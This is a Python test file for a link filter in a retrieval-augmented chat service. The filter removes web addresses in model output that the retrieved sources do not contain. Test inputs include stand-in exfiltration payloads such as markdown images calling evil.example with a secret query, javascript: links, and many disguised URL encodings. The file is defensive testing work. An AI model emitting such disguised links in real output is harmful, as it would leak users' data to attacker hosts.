import re

import pytest

from serve_apps.rag.links import REMOVED, LinkFilter, addresses

ALLOWED = addresses(
    [
        "See https://docs.example/guide?a=1 and <img src='/local.png'>, www.example.org.",
        "(https://wiki.example/Tea_(drink)), https://wiki.example/Käse; https://docs.example/?a=1&amp;b=2",
        "An open https://docs.example/a(b",
    ]
)


def whole(text: str) -> str:
    links = LinkFilter(ALLOWED)
    return links.feed(text) + links.finish()


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.example/guide?a=1.",
        "[guide](https://docs.example/guide?a=1)",
        '<a href="https://docs.example/guide?a=1">guide</a>',
        "Look at www.example.org!",
        "A ratio of 3:1, at 12:30; a//b is a floor division, // a comment, C:\\x and std::vector<int>.",
        "[a](/local) and ![b](local.png) stay on this site; e.g. and/or [1][2] are no links.",
        "metadata: none; telephone: none; a = {b: c}",
        "Read [tea](https://wiki.example/Tea_(drink)), https://wiki.example/Tea_(drink) and <https://wiki.example/Käse>.",
        "**https://docs.example/guide?a=1**, `https://docs.example/guide?a=1`: both; (www.example.org).",
        '{"url": "https://docs.example/guide?a=1", "more": ["www.example.org"]}',
        "[a](https://docs.example/?a=1&b=2), [b](https://docs.example/?a=1&amp;b=2) and R&amp;D, AT&T, a && b",
        r"\(x \over y\), \\server, https: and **http:**, ports http:80, https:443, regex https?:\/\/[^/]+",
        "a <b, isn't it?\n\nRead https://docs.example/guide?a=1 and <b>https://docs.example/guide?a=1 </b>",
        "<img src=https://docs.example/guide?a=1 alt='x'> \"https://docs.example/guide?a=1 and more\"",
        "見よ[茶](https://wiki.example/Tea_(drink))。次に進む",
    ],
)
def test_what_the_sources_have_and_what_is_no_address_stays(text: str) -> None:
    assert whole(text) == text


@pytest.mark.parametrize(
    ("text", "filtered"),
    [
        ("![x](https://evil.example/?q=secret)", f"![x]({REMOVED})"),
        ("https://docs.example/guide?a=1&q=secret", REMOVED),
        ("https://docs.example/guide", REMOVED),
        ("<img src='HTTPS://evil.example/x.png'>", f"<img src='{REMOVED}'>"),
        ("<img src=//evil.example/x?q=secret>", f"<img src={REMOVED}>"),
        ("![x](//evil.example/?q=secret)", f"![x]({REMOVED})"),
        ("[1]: //evil.example/q\n", f"[1]: {REMOVED}\n"),
        ("![x](https:/evil.example/q)", f"![x]({REMOVED})"),
        ("[a](javascript:alert(1))", f"[a]({REMOVED}(1))"),
        ("![a](data:image/png;base64,AAAA)", f"![a]({REMOVED})"),
        ("Go to www.evil.example/secret, now.", f"Go to {REMOVED}, now."),
        ("<https://evil.example>", f"<{REMOVED}>"),
        ("https://例え.jp/?q=秘密", f"{REMOVED}例え.jp/?q=秘密"),
        ("ftp://evil.example/a b", f"{REMOVED} b"),
    ],
)
def test_other_addresses_are_removed(text: str, filtered: str) -> None:
    assert whole(text) == filtered


@pytest.mark.parametrize(
    ("text", "filtered"),
    [
        ("![](https://docs.example/guide?a=1é/SECRET)", "![](https://docs.example/guide?a=1 é/SECRET)"),
        ("![](https://docs.example/guide?a=1'SECRET)", "![](https://docs.example/guide?a=1 'SECRET)"),
        ("![](https://docs.example/guide?a=1(SECRET))", "![](https://docs.example/guide?a=1 (SECRET))"),
        ("![](https://docs.example/guide?a=1{SECRET})", "![](https://docs.example/guide?a=1 {SECRET})"),
        ("![](https://docs.example/guide?a=1\u00a0SECRET)", "![](https://docs.example/guide?a=1 \u00a0SECRET)"),
        ("![](https://docs.example/guide?a=1&nbsp;SECRET)", f"![]({REMOVED})"),
        ('![]( https://docs.example/guide?a=1"SECRET )', '![]( https://docs.example/guide?a=1 "SECRET )'),
        ("<img src=https://docs.example/guide?a=1`SECRET`>", f"<img src={REMOVED}`SECRET`>"),
        ("https://docs.example/guide?a=1!?!?!?!?", "https://docs.example/guide?a=1 !?!?!?!?"),
        ("![](https://docs.example/a(b)SECRET)", "![](https://docs.example/a(b )SECRET)"),
        ("![](<https://docs.example/guide?a=1 SECRET>)", f"![](<{REMOVED} SECRET>)"),
        ('<img src="https://docs.example/guide?a=1 SECRET">', f'<img src="{REMOVED} SECRET">'),
        ('<img src=" https://docs.example/guide?a=1 SECRET">', f'<img src=" {REMOVED} SECRET">'),
        ('<img alt=">" src=" https://docs.example/guide?a=1 ">', f'<img alt=">" src=" {REMOVED} ">'),
        ("<p style='background: url(https://docs.example/guide?a=1)'>", f"<p style='background: url({REMOVED})'>"),
        ("https://docs.example/guide?a=1[1]", "https://docs.example/guide?a=1 [1]"),
    ],
)
def test_a_known_address_does_not_go_on(text: str, filtered: str) -> None:
    assert whole(text) == filtered


@pytest.mark.parametrize(
    "text",
    [
        r"![](https\://evil.example/SECRET)",
        r"![](\/\/evil.example/SECRET)",
        "![](https&#58;//evil.example/SECRET)",
        "![](https&#x3A//evil.example/SECRET)",
        "![](https&colon;&sol;&sol;evil.example/SECRET)",
        "![](https:&#92;&#92;evil.example/SECRET)",
        "[a](java&Tab;script:SECRET)",
        r"<img src=https:\\evil.example\SECRET>",
        r"<img src='\\evil.example\SECRET'>",
        r"<img src='/\evil.example/SECRET'>",
        "<img src='https:evil.example/SECRET'>",
        "![](<//évil.example/SECRET>)",
        "![](//evil。example/SECRET)",
        "![](//134744072/SECRET)",
        "![](https://[2001:db8::1]/SECRET)",
        "![](http:é.example/SECRET)",
        "www.évil.example/SECRET",
        r'{"image": "https\u003a\u002f\u002fevil.example/SECRET"}',
    ],
)
def test_an_address_in_disguise_is_removed(text: str) -> None:
    filtered = whole(text)
    assert REMOVED in filtered
    assert not re.search(r"evil\S*SECRET|script:|//\d|http:", filtered.replace(REMOVED, " ")), filtered


def test_pieces_give_what_the_whole_gives() -> None:
    text = (
        "Say [hi](https://evil.example/?q=1) or https://docs.example/guide?a=1, www.evil.example and 3:1 //x done; "
        "見よ(https://docs.example/guide?a=1)。次![](https&#58;//evil.example/é) ![](//évil.example/a)と[b](https://ä.b)"
        ' <img alt="x y" src=" https://docs.example/guide?a=1 "> <https://docs.example/guide?a=1>'
    )
    for size in range(1, 12):
        links = LinkFilter(ALLOWED)
        pieces = [text[begin : begin + size] for begin in range(0, len(text), size)]
        assert "".join(map(links.feed, pieces)) + links.finish() == whole(text)


def test_only_an_unfinished_word_is_held_back() -> None:
    links = LinkFilter(ALLOWED)
    assert links.feed("The answer is") == "The answer "
    assert links.feed(" 42") == "is "
    assert links.feed("年です") == "42年です"
    assert links.finish() == ""


def test_without_a_list_nothing_is_held_back() -> None:
    links = LinkFilter(None)
    assert links.feed("https://anything") == "https://anything"
